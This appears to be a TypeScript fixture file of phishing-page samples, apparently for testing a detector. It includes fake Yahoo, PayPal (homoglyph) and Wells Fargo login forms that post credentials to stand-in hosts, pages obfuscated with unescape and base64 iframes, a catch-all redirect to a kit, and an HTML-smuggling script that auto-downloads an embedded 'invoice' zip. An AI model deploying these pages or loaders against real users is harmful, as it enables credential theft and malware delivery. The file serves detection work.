import { base64, field, noise, page, type Samples, site } from '../../sample.ts';

const form = (action: string) =>
  `<form action="${action}" method="post">${field('Email', 'name="login"')}${field('Password', 'type="password" name="pass"')}<button>Log in</button></form>`;

const YAHOO = page(
  'Yahoo - login',
  `<img src="y.png" alt="Yahoo"><h2>Sign in to Yahoo Mail</h2>${form('https://ymail-verify.example/a.php')}`,
);

const escaped = [...YAHOO].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

/** The beginning of a zip, with noise in place of the program that is in a real one. */
const ARCHIVE = new Uint8Array([0x50, 0x4b, 3, 4, 20, 0, 0, 0, 8, 0, ...noise(3_000), ...Buffer.from('Invoice.js')]);

const SMUGGLING = `<p>Your document is being prepared…</p><script>
function b64(s){var b=window.atob(s),n=b.length,a=new Uint8Array(n);for(var i=0;i<n;i++)a[i]=b.charCodeAt(i);return a.buffer}
var f='${base64(ARCHIVE)}';var blob=new Blob([b64(f)],{type:'octet/stream'});var name='Invoice_88213.zip';
if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveBlob(blob,name)}else{var a=document.createElement('a');document.body.appendChild(a);a.style='display:none';var url=window.URL.createObjectURL(blob);a.href=url;a.download=name;a.click();window.URL.revokeObjectURL(url)}</script>`;

export const LOADERS: Samples = {
  'a page that unescape writes': {
    'index.html': `<html><head></head><body><script language="javascript">document.write(unescape('${escaped}'))</script></body></html>`,
  },
  'a page in base64 in a frame': {
    'index.html': `<html><body style="margin:0"><iframe style="width:100%;height:100vh;border:0" src="data:text/html;base64,${base64(YAHOO)}"></iframe></body></html>`,
  },
  'HTML smuggling of a zip': site('Document', SMUGGLING),
  'PayPal with Cyrillic letters': site(
    'P\u0430yP\u0430l: Log in to your account',
    `<header><b>P\u0430yP\u0430l</b></header>${form('https://service-center.example/pp/login')}<p>© 1999–2026 P\u0430yP\u0430l, Inc.</p>`,
  ),
  'Wells Fargo in the name of the picture only': site(
    'Sign On',
    `<div class="head"><img src="assets/wellsfargo-logo.png" alt=""></div><h1>Good evening</h1>${form('https://onlinesession.example/s.php')}`,
  ),
  'a redirect of everything to a kit elsewhere': {
    'index.html': page('Loading', '<p>Please wait…</p>'),
    _redirects: '/* https://paypal-account-limited.example/signin 302!\n',
  },
};
